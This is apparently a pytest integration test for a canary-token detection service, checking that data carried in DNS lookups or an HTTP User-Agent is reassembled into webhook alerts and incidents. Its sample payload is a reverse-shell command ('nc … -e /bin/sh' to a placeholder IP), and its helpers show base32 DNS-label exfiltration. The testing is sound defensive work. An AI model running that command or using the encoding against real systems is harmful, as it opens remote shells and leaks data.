"""Carried data through a whole deployment: from the wire to the alert, the page and the command."""

import json
import subprocess
from base64 import b32encode
from collections.abc import Iterator
from typing import Any

import pytest

from clients.ground import client, until
from clients.stack import Stack, running
from net.receivers import Quiet, receiving

SAID = "root on web1 ran: nc 192.0.2.7 4444 -e /bin/sh"


@pytest.fixture(scope="module")
def hook() -> Iterator[Quiet]:
    with receiving() as found:
        yield found


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory, hook: Quiet) -> Iterator[Stack]:
    with running(tmp_path_factory.mktemp("stack") / "data") as found:
        settings = {"url": hook.url(), "secret": "a secret of some length"}
        given = {"kind": "webhook", "name": "SOC", "settings": settings}
        found.api("POST", "destinations", given)
        yield found


def names(text: str, nonce: str, width: int = 32) -> list[str]:
    code = b32encode(text.encode()).decode().rstrip("=").lower()
    parts = [code[n : n + width] for n in range(0, len(code), width)]
    return [f"{part}.{n}-{len(parts)}-{nonce}" for n, part in enumerate(parts, 1)]


def ask(stack: Stack, token: dict[str, Any], *lefts: str, type_: str = "A") -> None:
    server = (client("dig"), "@127.0.0.1", "-p", str(stack.dns))
    for left in lefts:
        command = [*server, f"{left}.{token['hostname']}", type_]
        subprocess.run(command, capture_output=True, timeout=30, check=True)


def alerts(hook: Quiet, token: dict[str, Any]) -> list[dict[str, Any]]:
    found = [json.loads(body) for _, _, _, body in hook.seen]
    return [alert for alert in found if alert["memo"] == token["memo"]]


def incident(stack: Stack, token: dict[str, Any]) -> dict[str, Any]:
    (row,) = stack.incidents(f"&token={token['id']}")
    found: dict[str, Any] = stack.api("GET", f"incidents/{row['id']}")
    return found


def test_the_alert_of_a_message_in_parts_holds_it_whole(stack: Stack, hook: Quiet) -> None:
    token = stack.mint("dns", memo="A name in a script")
    parts = names(SAID, "k7f3")
    ask(stack, token, parts[1], *parts[:1], parts[2])
    ask(stack, token, *parts, type_="AAAA")
    (alert,) = until(lambda: alerts(hook, token), "the alert")
    assert alert["headline"] == f"“{SAID}” carried by lookups"
    assert ["Carried data", SAID] in [list(fact.values()) for fact in alert["facts"]]
    until(lambda: incident(stack, token)["touches"] == 6, "every touch")
    found = incident(stack, token)
    assert found["carried"] == [{"text": SAID, "parts": 3, "total": 3}]
    assert found["headline"] == alert["headline"]
    assert len(alerts(hook, token)) == 1


def test_a_part_that_is_lost_does_not_hold_the_alert_up(stack: Stack, hook: Quiet) -> None:
    token = stack.mint("dns", memo="A name in another script")
    parts = names(SAID, "q2q2")
    ask(stack, token, *parts[:2])
    (alert,) = until(lambda: alerts(hook, token), "the alert", 10)
    assert alert["headline"].endswith("[…]” carried by lookups, incomplete: 2 of 3 parts")
    ask(stack, token, parts[2])
    until(lambda: incident(stack, token)["carried"][0]["text"] == SAID, "the rest")
    assert len(alerts(hook, token)) == 1


def test_the_alert_of_a_user_agent_begins_with_it(stack: Stack, hook: Quiet) -> None:
    token = stack.mint("web", memo="A link in a script")
    subprocess.run(
        [
            *(client("curl"), "-sS", "-A", SAID, "-o", "/dev/null"),
            *("--connect-to", f"::127.0.0.1:{stack.http}", token["url"]),
        ],
        timeout=30,
        check=True,
    )
    (alert,) = until(lambda: alerts(hook, token), "the alert")
    assert alert["headline"].startswith(f"“{SAID}” carried by GET for /")
    assert ["Carried data", SAID] in [list(fact.values()) for fact in alert["facts"]]
